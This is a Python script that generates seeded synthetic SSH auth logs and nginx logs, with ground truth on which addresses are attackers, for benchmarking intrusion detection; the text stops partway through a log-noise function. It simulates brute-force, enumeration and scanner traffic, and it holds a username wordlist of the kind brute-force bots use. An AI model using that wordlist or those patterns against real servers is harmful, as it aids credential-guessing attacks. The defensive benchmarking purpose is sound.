#!/usr/bin/env python3
"""Deterministic synthetic logs with known attackers, for benchmarks.

    gen_logs.py --seed 42 --lines 1000000 --out DIR

writes DIR/auth.log (Debian syslog, sshd and friends, ~2 days), DIR/access.log
(nginx "combined", ~1 day) and DIR/truth.json:

    {"auth":   {"attackers": [...], "benign": [...], "unscored": [...], ...},
     "access": {"attackers": [...], "benign": [...], "unscored": [...], ...},
     "meta": {...}}

Every address that appears in a log is in exactly one of its three lists.
"attackers" did something no reasonable person does (at least 10 failed SSH
authentications / protocol abuses within an hour; at least a handful of
scans, injections, brute-force logins or a flood on the web).  "benign" are
people, search engines, monitors and automation.  "unscored" are real-world
background noise that is hostile but too small to be called an attack by
count (one or two probes from an address): banning them is neither a hit nor
a false positive.  "profiles" maps each attacker to what it did, for
diagnosing misses.

The traffic is modelled on what people, bots and attack tools do, not on any
tool's thresholds.  Python 3 standard library only; same seed and size, same
bytes.
"""

import argparse
import bisect
import ipaddress
import json
import math
import os
import random
import sys
import time
from datetime import datetime, timezone

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

# Auth log covers two days, the access log the second of them.
DEFAULT_END = "2026-11-20T00:00:00Z"
AUTH_SPAN = 2 * 86400
ACCESS_SPAN = 86400


# ---------------------------------------------------------------------------
# helpers

def loguniform(rng, a, b):
    return math.exp(rng.uniform(math.log(a), math.log(b)))


def poisson(rng, lam):
    if lam <= 0:
        return 0
    if lam > 50:
        return max(0, int(round(rng.gauss(lam, math.sqrt(lam)))))
    l, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rng.random()
        if p <= l:
            return k
        k += 1


def max_in_window(times, window):
    """Largest number of times within any window of `window` seconds."""
    times = sorted(times)
    best, j = 0, 0
    for i, t in enumerate(times):
        while times[j] < t - window:
            j += 1
        best = max(best, i - j + 1)
    return best


RESERVED_V4 = [ipaddress.ip_network(n) for n in (
    "0.0.0.0/8", "10.0.0.0/8", "100.64.0.0/10", "127.0.0.0/8", "169.254.0.0/16", "172.16.0.0/12",
    "192.0.0.0/24", "192.0.2.0/24", "192.88.99.0/24", "192.168.0.0/16", "198.18.0.0/15",
    "198.51.100.0/24", "203.0.113.0/24", "224.0.0.0/3")]
RESERVED_V4_RANGES = [(int(n.network_address), int(n.broadcast_address)) for n in RESERVED_V4]
# First 16 bits of real RIR IPv6 allocations (RIPE, ARIN, APNIC, LACNIC, AFRINIC).
V6_TOPS = [0x2a00, 0x2a01, 0x2a02, 0x2a03, 0x2a04, 0x2a05, 0x2a06, 0x2a09, 0x2a0b, 0x2a10,
           0x2600, 0x2601, 0x2602, 0x2603, 0x2604, 0x2605, 0x2606, 0x2607, 0x2610, 0x2620,
           0x2400, 0x2401, 0x2402, 0x2403, 0x2404, 0x2405, 0x2406, 0x2407, 0x2408, 0x2409,
           0x2800, 0x2801, 0x2803, 0x2804, 0x2c0f, 0x2001]


class Addrs:
    """Unique addresses; IPv6 /64s are never shared between unrelated hosts."""

    def __init__(self, rng):
        self.rng = rng
        self.used = set()
        self.used64 = set()

    def v4(self, base24=None):
        rng = self.rng
        while True:
            if base24 is not None:
                a = (base24 & 0xFFFFFF00) | rng.randint(2, 254)
            else:
                a = rng.randint(0x01000000, 0xDFFFFFFF)
                if a & 0xFF in (0, 255) or any(lo <= a <= hi for lo, hi in RESERVED_V4_RANGES):
                    continue
            s = str(ipaddress.IPv4Address(a))
            if s not in self.used:
                self.used.add(s)
                return s

    def private_v4(self):
        while True:
            s = "10.%d.%d.%d" % (self.rng.randint(0, 40), self.rng.randint(0, 255), self.rng.randint(2, 254))
            if s not in self.used:
                self.used.add(s)
                return s

    def new64(self, top=None):
        rng = self.rng
        while True:
            t = top if top is not None else rng.choice(V6_TOPS)
            if t == 0x2001:
                second = rng.choice([0x4860, 0x0470, 0x1608, 0x0bc8, 0x41d0, 0x19f0, 0x0678])
            else:
                second = rng.randint(0, 0xFFFF)
            p = (t << 48) | (second << 32) | rng.randint(0, 0xFFFFFFFF)
            if p not in self.used64:
                self.used64.add(p)
                return p

    def v6_in(self, p64, style="privacy"):
        rng = self.rng
        while True:
            if style == "server":
                iid = rng.choice([1, 2, 3, 0x10, 0x53, 0x100, 0xa, rng.randint(2, 0xFFFF)])
            elif style == "eui64":
                mac = rng.getrandbits(48) & ~(1 << 40)
                iid = ((mac >> 24) << 40) | (0xFFFE << 24) | (mac & 0xFFFFFF)
                iid ^= 1 << 57
            else:
                iid = rng.getrandbits(64)
            s = str(ipaddress.IPv6Address((p64 << 64) | iid))
            if s not in self.used:
                self.used.add(s)
                return s

    def v6(self, style="privacy"):
        return self.v6_in(self.new64(), style)


def prefix64(addr):
    return str(ipaddress.ip_network(addr + "/64", strict=False))


# ---------------------------------------------------------------------------
# auth.log

HOST = "web-eu1"
SERVER_V4 = "5.75.163.20"

ATTACK_USERS = (
    "admin test user ubuntu oracle postgres git ftpuser guest pi deploy support dev jenkins hadoop mysql "
    "nagios minecraft steam es elastic elasticsearch kafka zabbix ansible centos ec2-user vagrant debian odoo "
    "sol solana validator node ethereum tomcat www web backup service operator 123 1234 admin1 user1 test1 "
    "sysadmin administrator Administrator ubnt telnet supervisor student teacher ts3 teamspeak vpn openvpn "
    "nginx apache docker gitlab-runner gitlab redis mongodb mongo hive spark flink ftp ftp_user sftp "
    "testuser test2 demo dspace server user2 usuario ftptest cisco huawei support1 bitrix ubuntu1 "
    "admin123 developer devops oscar john alex david mike michael sara anna master root1 hduser "
    "weblogic wildfly jboss bot trader mining miner docker-user prueba wang zhang liu chen li "
    "cloud azureuser opc bin daemon nobody sync games lp proxy uucp dmdba dolphinscheduler mcserver "
    "frappe erpnext odoo16 odoo17 sonar sonarqube nexus grafana prometheus vyos fa ali yarn").split()
# Accounts that exist on this server (not "invalid user").
SYSTEM_USERS = {"root", "bin", "daemon", "nobody", "sync", "games", "lp", "proxy", "uucp", "backup", "www-data"}

FIRST_NAMES = (
    "alice bob carol dave erin frank grace heidi ivan judy ken laura mallory nina oscar peggy quinn rupert "
    "sybil trent ursula victor wendy xavier yvonne zach amir bea chen dmitri elif fatima goran hana igor "
    "jonas kaito lena mateo noor olga pavel rosa sanjay tomas uma vera wei yusuf zoe anton bjorn clara "
    "dario emma felix gita hugo ines jakob kira luca maja nils otto paula rafael sofia timo ulla vito").split()

BYE_STYLES = [
    ("Bye Bye", 0.35), ("Normal Shutdown, Thank you for playing", 0.15), ("disconnected by user", 0.1),
    ("Client disconnecting normally", 0.05), (None, 0.35)]  # None: "Connection closed by ... [preauth]"

PROTO_FORMS = [
    ("http", 2), ("tls", 2), ("kex", 3), ("hostkey", 2), ("cipher", 1), ("reset", 1), ("closed", 1)]
QUALIFYING_PROTO = {"http", "tls", "kex", "hostkey", "cipher"}


def wchoice(rng, items):
    total = sum(w for _, w in items)
    x = rng.uniform(0, total)
    for v, w in items:
        x -= w
        if x <= 0:
            return v
    return items[-1][0]


def fingerprint(rng):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(rng.choice(alphabet) for _ in range(43))


class AuthLog:
    def __init__(self, seed, n_lines, end_ts):
        self.rng = random.Random("%s/auth" % seed)
        self.n = n_lines
        self.scale = n_lines / 1_000_000
        self.end = end_ts
        self.start = end_ts - AUTH_SPAN
        self.recs = []  # (t, seq, prog, pid, msg); pid < 0: connection key, pid assigned in time order
        self.seq = 0
        self.conn = 0
        self.addrs = Addrs(self.rng)
        self.attackers = {}   # ip -> profile
        self.benign = set()
        self.unscored = set()
        # OpenSSH upgraded to 9.8+ (sshd-session) some hours before the end.
        self.upgrade = self.start + AUTH_SPAN * self.rng.uniform(0.8, 0.88)
        self.listener_pid = [self.rng.randint(600, 900), self.rng.randint(30000, 90000)]
        self.logind_pid = self.rng.randint(500, 700)
        self.session_id = self.rng.randint(1000, 5000)
        self.drop_counter = 0

    # -- emit ---------------------------------------------------------------
    def emit(self, t, prog, pid, msg):
        self.seq += 1
        self.recs.append((t, self.seq, prog, pid, msg))

    def new_conn(self):
        self.conn += 1
        return -self.conn

    def sshd(self, t, key, msg):
        """A per-connection sshd message (sshd-session after the upgrade)."""
        self.emit(t, "S", key, msg)

    def listener(self, t, msg):
        pid = self.listener_pid[0] if t < self.upgrade else self.listener_pid[1]
        self.emit(t, "sshd", pid, msg)

    def logind(self, t, msg):
        self.emit(t, "systemd-logind", self.logind_pid, msg)

    def port(self):
        return self.rng.randint(1024, 65535)

    # -- attackers ------------------------------------------------------------
    def plan_attacker(self, kind):
        """Connection plan: list of (t, style, user, tries). Styles: pw, enum, key, proto:<form>, timeout."""
        rng = self.rng
        span = self.end - self.start
        plan = []
        bot_root_only = rng.random() < 0.3
        wordlist = ATTACK_USERS[:]
        rng.shuffle(wordlist)
        if rng.random() < 0.4:
            # Many bots also try the names of real users (leaked lists, LinkedIn...).
            wordlist[rng.randint(0, 20):rng.randint(0, 20)] = rng.sample(FIRST_NAMES, 5)
        widx = [0]

        def next_user():
            if bot_root_only or rng.random() < 0.25:
                return "root"
            u = wordlist[widx[0] % len(wordlist)]
            widx[0] += 1
            return u

        tries_dist = rng.choice([[(1, 8), (2, 1)], [(1, 3), (2, 2), (3, 2), (6, 2)], [(6, 1)], [(1, 5), (3, 1)]])

        def conn_at(t, mix):
            style = wchoice(rng, mix)
            if style == "proto":
                style = "proto:" + wchoice(rng, PROTO_FORMS)
            user = next_user()
            if style == "enum" and user == "root":
                user = wordlist[widx[0] % len(wordlist)]
                widx[0] += 1
            if style == "key" and user not in SYSTEM_USERS:
                user = "root"
            tries = wchoice(rng, tries_dist) if style == "pw" else 0
            plan.append((t, style, user, tries))

        def episode(t0, n, interval, jitter, mix, concurrency=1):
            t = t0
            for _ in range(n):
                if t >= self.end - 5:
                    break
                for _ in range(concurrency if rng.random() < 0.5 else 1):
                    conn_at(t + rng.uniform(0, 0.4), mix)
                if jitter == "exp":
                    t += rng.expovariate(1.0 / interval)
                else:
                    t += interval * rng.uniform(1 - jitter, 1 + jitter)

        brute_mix = [("pw", 85), ("key", 6), ("enum", 6), ("proto", 3)]
        if kind == "burst":
            for _ in range(rng.choice([1, 1, 1, 2, 3])):
                interval = loguniform(rng, 0.4, 6)
                n = int(min(2000, max(15, rng.lognormvariate(math.log(40), 1.0))))
                t0 = self.start + rng.uniform(0, span - min(span * 0.5, n * interval))
                episode(t0, n, interval, "exp", brute_mix, concurrency=rng.choice([1, 1, 2, 4]))
        elif kind == "steady":
            interval = loguniform(rng, 12, 120)
            dur = loguniform(rng, 1200, 8 * 3600)
            t0 = self.start + rng.uniform(0, max(1, span - dur))
            episode(t0, int(dur / interval) + 1, interval, 0.5, brute_mix)
        elif kind == "slow":
            interval = rng.uniform(120, 330)
            dur = loguniform(rng, 2 * 3600, 20 * 3600)
            t0 = self.start + rng.uniform(0, max(1, span - dur))
            episode(t0, int(dur / interval) + 1, interval, 0.25, [("pw", 90), ("enum", 10)])
        elif kind == "enum":
            interval = loguniform(rng, 1, 60)
            n = int(min(2000, max(15, rng.lognormvariate(math.log(60), 0.9))))
            t0 = self.start + rng.uniform(0, span - min(span * 0.5, n * interval))
            episode(t0, n, interval, "exp", [("enum", 65), ("pw", 30), ("key", 5)])
        elif kind == "scanner":
            for _ in range(rng.randint(1, 6)):
                n = rng.randint(10, 50)
                dur = loguniform(rng, 30, 900)
                t0 = self.start + rng.uniform(0, span - dur)
                episode(t0, n, dur / n, "exp", [("proto", 80), ("key", 8), ("pw", 12)])
        plan.sort()
        # OpenSSH >= 9.8 PerSourcePenalties: a source that just failed is refused for a while.
        last = -1e9
        for i, (t, style, user, tries) in enumerate(plan):
            if t >= self.upgrade and style == "pw" and t - last < 30 and rng.random() < 0.5:
                plan[i] = (t, "drop", user, 0)
            else:
                last = t
        return plan

    def qualifies(self, plan):
        times = []
        for t, style, _, tries in plan:
            if style == "pw":
                times.extend([t] * tries)
            elif style == "enum" or (style.startswith("proto:") and style[6:] in QUALIFYING_PROTO):
                times.append(t)
        return max_in_window(times, 3600) >= 10

    def render_attack(self, ip, plan, bye):
        rng = self.rng
        for t, style, user, tries in plan:
            if t >= self.end:
                continue
            p = self.port()
            if style == "drop":
                self.drop_counter = (self.drop_counter + rng.randint(0, 3)) % 64
                self.listener(t, "drop connection #%d from [%s]:%d on [%s]:22 penalty: failed authentication"
                              % (self.drop_counter, ip, p, SERVER_V4))
                continue
            key = self.new_conn()
            if style == "pw":
                self.render_pw(t, key, ip, p, user, tries, bye)
            elif style == "enum":
                self.sshd(t, key, "Invalid user %s from %s port %d" % (user, ip, p))
                t2 = t + rng.uniform(0.1, 2)
                if bye is None or rng.random() < 0.3:
                    self.sshd(t2, key, "Connection closed by invalid user %s %s port %d [preauth]" % (user, ip, p))
                else:
                    self.sshd(t2, key, "Received disconnect from %s port %d:11: %s [preauth]" % (ip, p, bye))
                    self.sshd(t2, key, "Disconnected from invalid user %s %s port %d [preauth]" % (user, ip, p))
            elif style == "key":
                self.sshd(t + rng.uniform(0.1, 2), key,
                          "Connection closed by authenticating user %s %s port %d [preauth]" % (user, ip, p))
            elif style.startswith("proto:"):
                self.render_proto(t, key, ip, p, style[6:])
            elif style == "timeout":
                self.sshd(t + 120, key, "fatal: Timeout before authentication for %s port %d" % (ip, p))

    def render_pw(self, t, key, ip, p, user, tries, bye):
        rng = self.rng
        invalid = user not in SYSTEM_USERS
        tag = "invalid user " if invalid else ""
        who = "invalid" if invalid else "authenticating"
        tt = t
        if invalid:
            self.sshd(tt, key, "Invalid user %s from %s port %d" % (user, ip, p))
        for i in range(tries):
            tt += rng.uniform(0.1, 1.5)
            if invalid:
                if i == 0:
                    self.sshd(tt, key, "pam_unix(sshd:auth): check pass; user unknown")
                self.sshd(tt, key, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s " % ip)
            else:
                self.sshd(tt, key, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (ip, user))
            tt += rng.uniform(1.8, 3.2)
            self.sshd(tt, key, "Failed password for %s%s from %s port %d ssh2" % (tag, user, ip, p))
        tt += rng.uniform(0.05, 1)
        if tries >= 6:
            self.sshd(tt, key, "error: maximum authentication attempts exceeded for %s%s from %s port %d ssh2 [preauth]" % (tag, user, ip, p))
            self.sshd(tt, key, "Disconnecting %s user %s %s port %d: Too many authentication failures [preauth]" % (who, user, ip, p))
        elif bye is None:
            self.sshd(tt, key, "Connection closed by %s user %s %s port %d [preauth]" % (who, user, ip, p))
        else:
            self.sshd(tt, key, "Received disconnect from %s port %d:11: %s [preauth]" % (ip, p, bye))
            self.sshd(tt, key, "Disconnected from %s user %s %s port %d [preauth]" % (who, user, ip, p))
        if tries > 1:
            self.sshd(tt, key, "PAM %d more authentication failure%s; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s%s"
                      % (tries - 1, "s" if tries > 2 else "", ip, "" if invalid else "  user=" + user))
        if tries > 3:
            self.sshd(tt, key, "PAM service(sshd) ignoring max retries; %d > 3" % tries)

    def render_proto(self, t, key, ip, p, form):
        rng = self.rng
        t2 = t + rng.uniform(0, 1)
        if form == "http":
            req = rng.choice(["GET / HTTP/1.1", "GET / HTTP/1.0", "HEAD / HTTP/1.0", "OPTIONS / HTTP/1.0", "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0"])
            self.sshd(t, key, 'error: kex_exchange_identification: client sent invalid protocol identifier "%s"' % req)
            self.sshd(t2, key, "banner exchange: Connection from %s port %d: invalid format" % (ip, p))
        elif form == "tls":
            self.sshd(t, key, "error: kex_exchange_identification: banner line contains invalid characters")
            self.sshd(t2, key, "banner exchange: Connection from %s port %d: invalid format" % (ip, p))
        elif form == "kex":
            offer = rng.choice([
                "diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1",
                "diffie-hellman-group1-sha1,diffie-hellman-group14-sha1",
                "diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1,ext-info-c"])
            self.sshd(t2, key, "Unable to negotiate with %s port %d: no matching key exchange method found. Their offer: %s [preauth]" % (ip, p, offer))
        elif form == "hostkey":
            offer = rng.choice(["ssh-rsa,ssh-dss", "ssh-dss", "ssh-rsa"])
            self.sshd(t2, key, "Unable to negotiate with %s port %d: no matching host key type found. Their offer: %s [preauth]" % (ip, p, offer))
        elif form == "cipher":
            self.sshd(t2, key, "Unable to negotiate with %s port %d: no matching cipher found. Their offer: aes128-cbc,3des-cbc,aes256-cbc [preauth]" % (ip, p))
        elif form == "reset":
            self.sshd(t, key, "error: kex_exchange_identification: read: Connection reset by peer")
            self.sshd(t, key, "Connection reset by %s port %d" % (ip, p))
        else:
            self.sshd(t, key, "error: kex_exchange_identification: Connection closed by remote host")
            self.sshd(t, key, "Connection closed by %s port %d" % (ip, p))

    def gen_attackers(self, budget):
        rng = self.rng
        kinds = [("burst", 28), ("steady", 24), ("slow", 13), ("enum", 12), ("scanner", 10), ("v6group", 8), ("drive-by", 30)]
        start_len = len(self.recs)
        cap = max(2000, budget * 0.04)
        campus24 = [self.addrs.v4() for _ in range(6)]  # hosting ranges with several bots
        while len(self.recs) - start_len < budget:
            kind = wchoice(rng, kinds)
            bye = wchoice(rng, BYE_STYLES)
            if kind == "drive-by":
                # Internet background: 1-3 attempts, then gone. Unscored.
                ip = self.addrs.v4() if rng.random() < 0.9 else self.addrs.v6("server")
                t0 = self.start + rng.uniform(0, AUTH_SPAN - 60)
                plan = [(t0 + i * rng.uniform(1, 20), rng.choice(["pw", "pw", "enum", "proto:closed", "proto:kex"]),
                         rng.choice(["root", "admin", "ubuntu", "test"]), 1) for i in range(rng.randint(1, 3))]
                plan = [(t, s, u if s != "enum" or u != "root" else "admin", n) for t, s, u, n in plan]
                self.render_attack(ip, plan, bye)
                self.unscored.add(ip)
                continue
            if kind == "v6group":
                p64 = self.addrs.new64()
                k = rng.randint(2, 6)
                sub = rng.choice(["burst", "steady", "enum"])
                for _ in range(k):
                    ip = self.addrs.v6_in(p64, rng.choice(["server", "privacy"]))
                    plan = self.plan_attacker(sub)
                    for _ in range(100):
                        if self.qualifies(plan):
                            break
                        plan = self.plan_attacker(sub)
                    self.render_attack(ip, plan, bye)
                    self.attackers[ip] = "ssh-%s (one of %d in %s)" % (sub, k, prefix64(ip))
                continue
            plan = self.plan_attacker(kind)
            tries = 0
            while (not self.qualifies(plan) or len(plan) * 5 > cap) and tries < 50:
                plan = self.plan_attacker(kind)
                tries += 1
            if not self.qualifies(plan):
                continue
            r = rng.random()
            if r < 0.15:
                ip = self.addrs.v6(rng.choice(["server", "eui64", "privacy"]))
            elif r < 0.3:
                ip = self.addrs.v4(int(ipaddress.IPv4Address(rng.choice(campus24))))
            else:
                ip = self.addrs.v4()
            self.render_attack(ip, plan, bye)
            self.attackers[ip] = "ssh-%s (%d connections)" % (kind, len(plan))

    # -- benign ---------------------------------------------------------------
    def gen_people(self):
        rng = self.rng
        n_people = max(15, int(round(130 * self.scale ** 0.5)))
        offices = [self.addrs.v4() for _ in range(max(2, int(round(5 * self.scale ** 0.5))))]
        people = []
        for i in range(n_people):
            name = FIRST_NAMES[i % len(FIRST_NAMES)] + ("" if i < len(FIRST_NAMES) else str(i // len(FIRST_NAMES)))
            addrs = []
            if rng.random() < 0.7:
                addrs.append(("home", self.addrs.v4()))
            if rng.random() < 0.35:
                p64 = self.addrs.new64()
                for _ in range(rng.randint(1, 3)):  # privacy addresses rotate
                    addrs.append(("home6", self.addrs.v6_in(p64, "privacy")))
            if rng.random() < 0.6:
                addrs.append(("office", rng.choice(offices)))
            if rng.random() < 0.3 or not addrs:
                addrs.append(("mobile", self.addrs.v4()))
            people.append({
                "user": name, "uid": 1001 + i, "addrs": addrs,
                "password": rng.random() < 0.25,
                "extra_keys": rng.random() < 0.12,
                "dev": rng.random() < 0.35,
                "rate": loguniform(rng, 0.5, 12),  # logins per day
                "tz": rng.choice([0, 0, 0, 1, 1, 2, -5, 8, 5]),
                "fp": fingerprint(rng), "fp_other": fingerprint(rng),
                "user_manager": False,
            })
        return people

    def gen_humans(self):
        rng = self.rng
        people = self.gen_people()
        failures = {}  # ip -> [t] of failed password (benign people mistype, they do not hammer)
        for person in people:
            for day in range(2):
                day0 = self.start + day * 86400
                for _ in range(poisson(rng, person["rate"])):
                    hour = min(23.9, max(0.0, rng.gauss(13.5, 3.5))) - person["tz"]
                    t = day0 + (hour % 24) * 3600 + rng.uniform(0, 3600)
                    if not (self.start <= t < self.end - 7200):
                        continue
                    ip = rng.choice(person["addrs"])[1]
                    n_conn = rng.randint(3, 12) if person["dev"] and rng.random() < 0.3 else 1
                    for c in range(n_conn):
                        short = n_conn > 1
                        self.human_login(person, ip, t, short, failures)
                        t += rng.uniform(5, 40)
            for _, ip in person["addrs"]:
                self.benign.add(ip)

    def human_login(self, person, ip, t, short, failures):
        rng = self.rng
        u, uid = person["user"], person["uid"]
        key = self.new_conn()
        p = self.port()
        tt = t
        if person["password"]:
            r = rng.random()
            typos = 0 if r < 0.92 else (1 if r < 0.985 else 2)
            if rng.random() < 0.01:
                typos = 3  # forgot the password: gives up, comes back later
            past = failures.setdefault(ip, [])
            while typos and (sum(1 for x in past if abs(tt - x) < 600) + typos > 3
                             or sum(1 for x in past if abs(tt - x) < 3600) + typos > 4):
                typos -= 1
            for i in range(min(typos, 2) if typos == 3 else typos):
                tt += rng.uniform(2, 8)
                self.sshd(tt, key, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (ip, u))
                tt += rng.uniform(1.8, 3)
                self.sshd(tt, key, "Failed password for %s from %s port %d ssh2" % (u, ip, p))
                past.append(tt)
            if typos == 3:
                tt += rng.uniform(2, 8)
                self.sshd(tt, key, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (ip, u))
                tt += 2.2
                self.sshd(tt, key, "Failed password for %s from %s port %d ssh2" % (u, ip, p))
                past.append(tt)
                self.sshd(tt + 1, key, "Connection closed by authenticating user %s %s port %d [preauth]" % (u, ip, p))
                self.sshd(tt + 1, key, "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (ip, u))
                tt += rng.uniform(60, 240)
                key = self.new_conn()
                p = self.port()
            tt += rng.uniform(2, 6)
            self.sshd(tt, key, "Accepted password for %s from %s port %d ssh2" % (u, ip, p))
        else:
            if person["extra_keys"]:
                # ssh-agent offers several keys; from the 4th failure on OpenSSH logs them at INFO.
                tt += rng.uniform(0.1, 0.4)
                self.sshd(tt, key, "Failed publickey for %s from %s port %d ssh2: RSA SHA256:%s" % (u, ip, p, person["fp_other"]))
            tt += rng.uniform(0.1, 0.5)
            self.sshd(tt, key, "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (u, ip, p, person["fp"]))
        self.session(tt, key, u, uid, ip, p, rng.uniform(3, 60) if short else rng.lognormvariate(math.log(1200), 1.1),
                     person=person)

    def session(self, t, key, u, uid, ip, p, dur, person=None, sudo_cmds=None, logind_prefix=""):
        rng = self.rng
        self.sshd(t, key, "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (u, uid))
        self.session_id += 1
        sid = "%s%d" % (logind_prefix, self.session_id)
        self.logind(t, "New session %s of user %s." % (sid, u))
        if person is not None and not person["user_manager"]:
            person["user_manager"] = True
            self.emit(t, "systemd", rng.randint(1000, 400000), "pam_unix(systemd-user:session): session opened for user %s(uid=%d) by (uid=0)" % (u, uid))
        end = min(t + dur, self.end - 1)
        if sudo_cmds is None and person is not None and dur > 120 and rng.random() < 0.3:
            sudo_cmds = [rng.choice(SUDO_CMDS) for _ in range(rng.randint(1, 5))]
        for cmd in sudo_cmds or []:
            ts = rng.uniform(t, end)
            if person is not None and rng.random() < 0.05:
                self.emit(ts, "sudo", None, "pam_unix(sudo:auth): authentication failure; logname=%s uid=%d euid=0 tty=/dev/pts/%d ruser=%s rhost=  user=%s" % (u, uid, rng.randint(0, 5), u, u))
                ts += 4
            tty = "TTY=pts/%d ; " % rng.randint(0, 5) if person is not None else ""
            self.emit(ts, "sudo", None, "%8s : %sPWD=/home/%s ; USER=root ; COMMAND=%s" % (u, tty, u, cmd))
            self.emit(ts, "sudo", None, "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)" % (u, uid))
            self.emit(ts + rng.uniform(0, 5), "sudo", None, "pam_unix(sudo:session): session closed for user root")
        if end < self.end - 1:
            if person is not None and rng.random() < 0.03:
                self.sshd(end, key, "Timeout, client not responding from user %s %s port %d" % (u, ip, p))
            else:
                self.sshd(end, key, "Received disconnect from %s port %d:11: disconnected by user" % (ip, p))
                self.sshd(end, key, "Disconnected from user %s %s port %d" % (u, ip, p))
            self.sshd(end, key, "pam_unix(sshd:session): session closed for user %s" % u)
            self.logind(end, "Session %s logged out. Waiting for processes to exit." % sid)
            self.logind(end + rng.uniform(0, 0.5), "Removed session %s." % sid)

    def gen_automation(self, target):
        rng = self.rng
        start_len = len(self.recs)
        pollers = [self.addrs.private_v4() for _ in range(2)]
        lbs = [self.addrs.private_v4() for _ in range(2)]
        ci = [self.addrs.v4(), self.addrs.v4(), self.addrs.v6("server")]
        backup = self.addrs.v4()
        for ip in pollers + lbs + ci + [backup]:
            self.benign.add(ip)
        # Load balancer TCP health checks (connect, close): every 30 s from each (at 1M lines).
        lb_interval = 30 / min(1.0, self.scale)
        for ip in lbs:
            t = self.start + rng.uniform(0, 30)
            while t < self.end:
                key = self.new_conn()
                p = self.port()
                self.sshd(t, key, "error: kex_exchange_identification: Connection closed by remote host")
                self.sshd(t, key, "Connection closed by %s port %d" % (ip, p))
                t += lb_interval + rng.uniform(-0.2, 0.2)
        # Nagios check_ssh every 5 min from the first poller: banner, then close.
        t = self.start + rng.uniform(0, 300)
        while t < self.end:
            self.sshd(t, self.new_conn(), "Connection closed by %s port %d [preauth]" % (pollers[0], self.port()))
            t += 300 + rng.uniform(-2, 2)
        # Nightly backup.
        for day in range(2):
            t = self.start + day * 86400 + 2 * 3600 + rng.uniform(600, 1200)
            key = self.new_conn()
            p = self.port()
            self.sshd(t, key, "Accepted publickey for backup from %s port %d ssh2: ED25519 SHA256:%s" % (backup, p, fingerprint(rng)))
            self.session(t, key, "backup", 34, backup, p, rng.uniform(900, 3600))
        # CI deploys with ansible: bursts of connections, sudo.
        deploy_fp = fingerprint(rng)
        t = self.start + rng.uniform(0, 3600)
        while t < self.end - 600:
            ip = rng.choice(ci)
            tt = t
            for _ in range(rng.randint(8, 40)):
                key = self.new_conn()
                p = self.port()
                self.sshd(tt, key, "Accepted publickey for deploy from %s port %d ssh2: ED25519 SHA256:%s" % (ip, p, deploy_fp))
                cmds = ["/bin/sh -c echo BECOME-SUCCESS-%s ; /usr/bin/python3 /home/deploy/.ansible/tmp/ansible-tmp-%d.%d-%d/AnsiballZ_%s.py"
                        % ("".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(32)), int(tt), rng.randint(100, 999999), rng.randint(1000, 99999),
                           rng.choice(["command", "copy", "systemd", "apt", "file", "stat", "setup"]))] if rng.random() < 0.6 else []
                self.session(tt, key, "deploy", 1000, ip, p, rng.uniform(1, 8), sudo_cmds=cmds)
                tt += rng.uniform(1, 10)
            hour = ((t - self.start) / 3600) % 24
            t += loguniform(rng, 1200, 4 * 3600) * (3 if hour < 6 or hour > 20 else 1)
        # check_by_ssh from the pollers: the bulk of the server's ssh sessions.
        remaining = target - (len(self.recs) - start_len)
        per_check = 9
        minutes = AUTH_SPAN / 60
        checks_per_min = max(0.2, remaining / per_check / minutes / len(pollers))
        nagios_fp = fingerprint(rng)
        for ip in pollers:
            m = self.start + rng.uniform(0, 60)
            while m < self.end:
                k = int(checks_per_min) + (1 if rng.random() < checks_per_min - int(checks_per_min) else 0)
                for _ in range(k):
                    tt = m + rng.uniform(0, 55)
                    if tt >= self.end:
                        continue
                    key = self.new_conn()
                    p = self.port()
                    self.sshd(tt, key, "Accepted publickey for nagios from %s port %d ssh2: ED25519 SHA256:%s" % (ip, p, nagios_fp))
                    self.session(tt, key, "nagios", 112, ip, p, rng.uniform(0.2, 3), logind_prefix="c")
                m += 60

    # -- other programs ---------------------------------------------------------
    def gen_noise(self, count):
        rng = self.rng
        # cron: per-minute jobs make the bulk; a few others
        minutes = int(AUTH_SPAN / 60)
        per_min = max(1, count / 2 / minutes)
        m = 0
        made = 0
        while made < count:
            base = self.start + (m % minutes) * 60
            k = int(per_min) + (1 if rng.random() < per_min - int(per_min) else 0)
            for _ in range(k):
                user, uid = rng.choice([("root", 0), ("root", 0), ("root", 0), ("www-data", 33), ("nagios", 112)])
                pid = self.new_conn()  # real pid given in time order, like sshd's
                t = base + rng.uniform(0, 1.5)
                self.emit(t, "CRON", pid, "pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid))
                self.emit(t + rng.uniform(0.01, 40), "CRON", pid, "pam_unix(cron:session): session closed for user %s" % user)
                made += 2
            m += 1
            if m % 37 == 0 and rng.random() < 0.3:
                t = base + rng.uniform(0, 60)
                form = rng.randrange(6)
                if form == 0:
                    self.emit(t, "kernel", None, "[%d.%06d] audit: type=1400 audit(%d.%03d:%d): apparmor=\"DENIED\" operation=\"open\" class=\"file\" profile=\"/usr/sbin/ntpd\" name=\"/proc/sys/kernel/random/boot_id\" pid=%d comm=\"ntpd\" requested_mask=\"r\" denied_mask=\"r\" fsuid=110 ouid=0"
                              % (int(t - self.start) + 812345, rng.randint(0, 999999), int(t), rng.randint(0, 999), rng.randint(100, 9999), rng.randint(300, 9000)))
